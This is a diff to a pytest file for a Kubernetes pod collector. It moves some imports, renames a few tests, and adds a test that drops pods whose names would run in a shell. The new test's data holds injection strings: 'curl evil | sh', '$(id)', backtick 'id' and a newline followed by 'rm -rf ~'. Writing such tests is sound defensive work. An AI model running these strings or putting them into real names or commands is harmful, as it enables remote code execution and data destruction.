@@ -8,11 +8,11 @@ from typing import Any
 import msgspec
 import pytest
 
-from fleet.collectors import pod_lists, pods
+from fleet.collectors import pod_lists, pods, pods_wire
 from fleet.collectors.errors import Asked, Failure
 from fleet.collectors.paging import Listing
-from fleet.domain.outcomes import Outcome
 from fleet.domain.snapshot import DeviceAllocation, PodSnapshot
+from fleet.domain.snapshot.sections import Outcome
 from tests.collectors.recorded import body, recording
 from tests.collectors.scripted import Server, session
 
@@ -20,7 +20,7 @@ ASKED = Asked(verb="list", resource="pods")
 RECORDED = ("pods_on_node", "pods_gpu_operator_page", "pods_nonterminal", "pods_page_limit2")
 
 
-def wires(name: str) -> list[pods.PodWire]:
+def wires(name: str) -> list[pods_wire.PodWire]:
     return pod_lists._pages.decode(body(name), ASKED).items
 
 
@@ -37,8 +37,8 @@ def asking(resource: str) -> list[dict[str, Any]]:
     return [{"name": "main", "resources": {"requests": {resource: "1"}}}]
 
 
-def wire(raw: dict[str, Any]) -> pods.PodWire:
-    return msgspec.convert(raw, pods.PodWire)
+def wire(raw: dict[str, Any]) -> pods_wire.PodWire:
+    return msgspec.convert(raw, pods_wire.PodWire)
 
 
 def parsed(raw: dict[str, Any]) -> PodSnapshot:
@@ -48,7 +48,7 @@ def parsed(raw: dict[str, Any]) -> PodSnapshot:
 
 
 @pytest.mark.parametrize("name", RECORDED)
-def test_recorded_pods_keep_what_the_api_said(name: str) -> None:
+def test_recorded_pods_keep_the_values_of_the_api(name: str) -> None:
     raws = recording(name)["body"]["items"]
     for raw, made in zip(raws, [pods.parse(w) for w in wires(name)], strict=True):
         assert made is not None
@@ -128,7 +128,7 @@ def test_limits_count_where_no_request_is_written() -> None:
     assert made.containers[0].requests == {"nvidia.com/gpu": "2", "rdma/hca": "3"}
 
 
-def test_init_containers_come_first_and_sidecars_are_told() -> None:
+def test_init_containers_come_first_and_sidecars_are_marked() -> None:
     spec = {
         "initContainers": [{"name": "side", "restartPolicy": "Always"}, {"name": "init"}],
         "containers": [{"name": "main"}],
@@ -299,8 +299,29 @@ def test_the_one_variable_that_hands_out_gpus_and_privileges_are_kept_and_no_oth
         {"name": "NVIDIA_VISIBLE_DEVICES", "value": "all"},
         {"name": "TOKEN", "valueFrom": {"secretKeyRef": {"name": "s", "key": "k"}}},
     ]
-    told = parsed(pod(spec={"containers": [{"name": "main", "env": env, "securityContext": {"privileged": True}}]}))
-    assert (told.containers[0].visible_devices, told.containers[0].privileged) == ("all", True)
-    assert "secret" not in repr(told)
+    result = parsed(pod(spec={"containers": [{"name": "main", "env": env, "securityContext": {"privileged": True}}]}))
+    assert (result.containers[0].visible_devices, result.containers[0].privileged) == ("all", True)
+    assert "secret" not in repr(result)
     plain = parsed(pod()).containers[0]
     assert (plain.visible_devices, plain.privileged) == ("", False)
+
+
+@pytest.mark.parametrize(
+    ("change", "problem"),
+    [
+        ({"metadata": {"name": "p; curl evil | sh"}}, "Its name or namespace"),
+        ({"metadata": {"name": "p$(id)"}}, "Its name or namespace"),
+        ({"metadata": {"namespace": "team`id`"}}, "Its name or namespace"),
+        ({"metadata": {"name": "-n"}}, "Its name or namespace"),
+        ({"spec": {"containers": [{"name": "main\nrm -rf ~", "image": "app"}]}}, "A container's name"),
+    ],
+)
+def test_a_pod_whose_name_would_run_in_a_shell_is_left_out_and_named(change: dict[str, Any], problem: str) -> None:
+    """Names become parts of commands that people copy. No API server accepts these; one that lies may send them."""
+    honest = pod(uid="u2", metadata={"name": "honest", "uid": "u2"}, spec={"nodeName": "gpu-1"})
+    hostile = pod(uid="u1", **{**change, "spec": {"nodeName": "gpu-1", **change.get("spec", {})}})
+    listing = pod_lists.fetch(
+        session(Server({"/api/v1/pods": pod_page(hostile, honest)})), frozenset({"gpu-1"}), pod_lists.plan(["gpu-1"], 1, None)
+    )
+    assert [item.uid for item in listing.items] == ["u2"]
+    assert [row.text.startswith(problem) for row in listing.problems] == [True]
